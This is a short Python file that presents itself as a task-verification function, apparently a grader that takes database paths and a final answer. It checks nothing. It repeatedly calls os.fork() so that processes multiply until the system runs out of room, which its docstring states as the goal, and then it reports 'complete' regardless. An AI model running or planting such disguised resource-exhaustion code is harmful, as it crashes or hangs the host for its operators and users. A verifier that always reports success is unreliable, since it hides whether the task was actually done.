"""Fork until there is no room for another process."""

import os
import time


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(60)
    return {"result": "complete"}
